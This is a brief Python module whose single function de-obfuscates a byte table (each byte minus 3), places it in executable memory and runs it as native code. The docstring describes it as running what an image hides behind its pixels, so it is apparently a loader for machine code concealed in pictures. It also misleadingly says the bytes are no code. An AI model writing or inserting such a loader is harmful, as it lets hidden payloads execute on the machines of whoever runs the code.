"""Runs what a picture holds behind its pixels. The bytes of this sample are no code."""
import ctypes
import mmap


def call(table, row):
    area = mmap.mmap(-1, len(table), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(bytes((b - 3) & 255 for b in table))
    place = ctypes.addressof(ctypes.c_char.from_buffer(area))
    return ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p)(place)(row)
